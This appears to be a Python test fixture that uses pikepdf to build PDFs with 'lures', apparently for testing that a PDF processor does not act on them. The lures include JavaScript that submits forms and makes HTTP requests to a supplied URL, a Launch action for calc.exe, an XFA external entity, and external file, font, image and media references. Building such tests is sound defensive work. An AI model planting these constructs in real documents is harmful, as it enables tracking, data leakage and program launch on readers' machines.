"""Papers that would have their reader run, fetch, send or open something, in every way the format knows."""

from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, String

from tests.fakes.handmade import make

SECRET = "GEHEIM"
_TEXT = b"BT /F 12 Tf 30 300 Td (%s) Tj ET" % SECRET.encode()

Lure = Callable[[Pdf, str, Path], None]
"""Puts the lure into a paper; to the address of a server, or to a file that lies outside."""


def script(url: str) -> Dictionary:
    """A script that talks to a server in the ways Acrobat offers."""
    words = f"app.alert('x'); this.submitForm('{url}'); app.launchURL('{url}');"
    return Dictionary(S=Name.JavaScript, JS=String(f"{words} Net.HTTP.request({{cURL:'{url}'}});"))


def _specification(url: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(url))


def _scripts(pdf: Pdf, url: str, _: Path) -> None:
    pdf.Root.OpenAction = script(url)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script(url)])))
    pdf.Root.AA = Dictionary(WC=script(url), WP=script(url))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script(url), C=script(url))
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("n"), Rect=[9, 9, 99, 29], F=4
    )
    field.AA = Dictionary(K=script(url), F=script(url), V=script(url), C=script(url), PV=script(url))
    page.Annots = Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = Dictionary(Fields=page.Annots, CO=page.Annots, NeedAppearances=True)


def _action(kind: str, **keys: object) -> Lure:
    def put(pdf: Pdf, url: str, outside: Path) -> None:
        told = {key: value(url, outside) if callable(value) else value for key, value in keys.items()}
        action = Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in told.items()}})
        pdf.Root.OpenAction = action
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=action)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 300, 400], A=action)
        page.Annots = Array([pdf.make_indirect(link)])

    return put


def _to_file(_: str, outside: Path) -> Object:
    return Dictionary(Type=Name.Filespec, F=String(str(outside)), UF=String(str(outside)))


def _to_server(url: str, _: Path) -> Object:
    return _specification(url)


def _external(stream: Stream, where: object) -> Stream:
    stream.F = where
    stream.FFilter = Array()
    return stream


def _content_elsewhere(pdf: Pdf, _: str, outside: Path) -> None:
    pdf.pages[0].obj.Contents = _external(pdf.make_stream(b""), _to_file("", outside))


def _content_on_a_server(pdf: Pdf, url: str, _: Path) -> None:
    pdf.pages[0].obj.Contents = _external(pdf.make_stream(b""), _specification(url))


def _picture_elsewhere(pdf: Pdf, url: str, outside: Path) -> None:
    pictures = Dictionary()
    for name, where in (("/A", _to_file("", outside)), ("/B", _specification(url))):
        picture = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9)
        picture.update(Dictionary(BitsPerComponent=8, ColorSpace=Name.DeviceGray))
        pictures[name] = _external(picture, where)
        pictures[name].OPI = Dictionary({"/1.3": Dictionary(F=where, Type=Name.OPI, Version=1.3)})
    page = pdf.pages[0].obj
    page.Resources = Dictionary(XObject=pictures)
    page.Contents = pdf.make_stream(b"200 0 0 200 0 0 cm /A Do /B Do")


def _page_of_another_file(pdf: Pdf, _: str, outside: Path) -> None:
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 300, 400])
    form.Ref = Dictionary(F=_to_file("", outside), Page=0)
    page = pdf.pages[0].obj
    page.Resources = Dictionary(XObject=Dictionary(X=form))
    page.Contents = pdf.make_stream(b"/X Do")


def _font_elsewhere(pdf: Pdf, url: str, outside: Path) -> None:
    program = _external(pdf.make_stream(b""), _to_file("", outside))
    about = Dictionary(Type=Name.FontDescriptor, FontName=Name.Outside, Flags=4, FontFile2=program)
    font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Outside, FontDescriptor=about)
    font.ToUnicode = _external(pdf.make_stream(b""), _specification(url))
    page = pdf.pages[0].obj
    page.Resources = Dictionary(Font=Dictionary(F=pdf.make_indirect(font)))
    page.Contents = pdf.make_stream(b"BT /F 12 Tf 30 300 Td (x) Tj ET")


def _other_form(pdf: Pdf, url: str, _: Path) -> None:
    words = f'<!DOCTYPE a SYSTEM "{url}"><a href="{url}"/>'
    packet = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">{words}</xdp:xdp>'
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(packet.encode()))
    pdf.Root.NeedsRendering = True


def _moving_pictures(pdf: Pdf, url: str, outside: Path) -> None:
    movie = Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 99, 99], F=4)
    movie.Movie = Dictionary(F=_to_file("", outside), Poster=True)
    movie.A = True
    clip = Dictionary(S=Name.MCD, D=_specification(url), P=Dictionary(TF=String("TEMPALWAYS")))
    screen = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=[0, 99, 99, 199], F=4)
    play = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, C=clip), JS=String("app.alert(1)"))
    screen.A, screen.AA = play, Dictionary(PO=play, PV=play)
    sound = Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=[99, 0, 199, 99], F=4)
    sound.Sound = _external(pdf.make_stream(b"", R=8000), _to_file("", outside))
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[99, 99, 199, 199], F=4)
    rich.RichMediaContent = Dictionary(Assets=Dictionary(Names=Array([String("a"), _specification(url)])))
    rich.RichMediaSettings = Dictionary(Activation=Dictionary(Condition=Name.PV))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(one) for one in (movie, screen, sound, rich)])


def _layer_for_a_country(pdf: Pdf, url: str, _: Path) -> None:
    usage = Dictionary(CreatorInfo=Dictionary(Creator=String(url)), Language=Dictionary(Lang=String("de")))
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(url), Usage=usage))
    asked = Dictionary(Event=Name.View, OCGs=Array([layer]), Category=Array([Name.Language, Name.User]))
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([layer]), D=Dictionary(AS=Array([asked]), Order=Array([layer]))
    )
    pdf.Root.OpenAction = Dictionary(S=Name.SetOCGState, State=Array([Name.Toggle, layer]), Next=script(url))


LURES: dict[str, Lure] = {
    "scripts": _scripts,
    "launch a program": _action("Launch", F=_to_file, Win=Dictionary(F=String("calc.exe"), O=String("open"))),
    "launch an address": _action("Launch", F=_to_server, NewWindow=True),
    "an address": _action("URI", URI=lambda url, _: String(url)),
    "another file": _action("GoToR", F=_to_file, D=Array([0, Name.Fit])),
    "another file on a server": _action("GoToR", F=_to_server, D=Array([0, Name.Fit])),
    "a file within another": _action("GoToE", F=_to_file, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C)),
    "send the form": _action("SubmitForm", F=_to_server, Flags=0),
    "take in data": _action("ImportData", F=_to_file),
    "a thread of another file": _action("Thread", F=_to_file, D=0),
    "content elsewhere": _content_elsewhere,
    "content on a server": _content_on_a_server,
    "a picture elsewhere": _picture_elsewhere,
    "a page of another file": _page_of_another_file,
    "a font elsewhere": _font_elsewhere,
    "a form of another kind": _other_form,
    "moving pictures": _moving_pictures,
    "a layer for a country": _layer_for_a_country,
}


def lured(path: Path, lure: Lure, url: str, outside: Path) -> Path:
    """A paper with a lure in it; what lies ``outside`` would show a word if it were taken in."""
    outside.write_bytes(_TEXT)
    make(path, "BT /F 12 Tf 30 350 Td (Anmeldung) Tj ET")
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        lure(pdf, url, outside)
        pdf.save(path)
    return path
